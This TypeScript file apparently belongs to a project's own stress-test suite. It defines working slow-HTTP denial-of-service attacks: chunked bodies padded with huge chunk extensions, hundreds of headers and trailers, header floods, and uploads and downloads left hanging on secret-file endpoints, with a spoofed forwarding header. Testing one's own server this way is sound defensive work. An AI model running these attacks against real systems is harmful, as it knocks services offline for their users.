import { type Attack, flood, headOf, openSocket, type Target, untilOver } from "./attack.ts";

const MIB = 1024 * 1024;

/** Attacks by chunks, headers and trailers, and by uploads and downloads that are never finished. */
export const SLOW_ATTACKS: readonly Attack[] = [
  {
    name: "chunks of a byte with long extensions",
    aims: "the parser of HTTP: 8 KB of nothing for each byte of a body",
    run: async (target) => {
      const headers = { "transfer-encoding": "chunked" };
      const chunk = `1;${"x".repeat(8000)}\r\nx\r\n`.repeat(64);
      const sockets = Array.from({ length: 8 }, () => openSocket(target));
      for (const socket of sockets) {
        socket.resume();
        socket.write(headOf({ path: "/api/tools/file-hash", headers }));
        const send = () => socket.writable && socket.write(chunk);
        socket.on("drain", send);
        send();
      }
      await untilOver(target);
    },
  },
  {
    name: "headers by the hundred, and trailers",
    aims: "whatever is done for each header",
    run: async (target) => {
      const names = Array.from({ length: 900 }, (_, i): [string, string] => [`x-${i}`, `${i}`.repeat(3)]);
      const headers = Object.fromEntries(names);
      const trailers = names.map(([name, value]) => `${name}: ${value}\r\n`).join("");
      const chunked = headOf({ path: "/api/tools/file-hash", headers: { "transfer-encoding": "chunked" } });
      const many = flood(target, {
        senders: 8,
        request: () => ({ method: "GET", path: "/healthz", headers }),
      });
      while (!target.signal.aborted) {
        const socket = openSocket(target).resume();
        socket.write(`${chunked}1\r\nx\r\n0\r\n${trailers}\r\n`);
        await new Promise((resolve) => setTimeout(resolve, 20));
        socket.destroy();
      }
      await many;
    },
  },
  {
    name: "files left open as secrets",
    aims: "memory and the database: uploads that stop, downloads that nobody takes",
    run: async (target) => {
      const left = Array.from({ length: 8 }, () => openSocket(target));
      for (const socket of left) {
        const headers = { "content-length": String(20 * MIB) };
        socket.write(headOf({ path: "/api/secrets/file?filename=a", headers }));
        socket.write(Buffer.alloc(2 * MIB));
      }
      const { id, key } = await shareFile(target);
      const body = JSON.stringify({ key });
      const headers = { "content-type": "application/json", "content-length": String(body.length) };
      while (!target.signal.aborted) {
        const socket = openSocket(target).pause();
        socket.write(headOf({ path: `/api/secrets/${id}/file`, headers }) + body);
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
    },
  },
];

async function shareFile({ url }: Target): Promise<{ id: string; key: string }> {
  const headers = { "x-forwarded-for": "203.0.113.68" };
  const path = `${url}/api/secrets/file?filename=a`;
  const response = await fetch(path, { method: "POST", headers, body: Buffer.alloc(20 * MIB, 7) });
  // The server is this project's, so the keys are known.
  return (await response.json()) as { id: string; key: string };
}
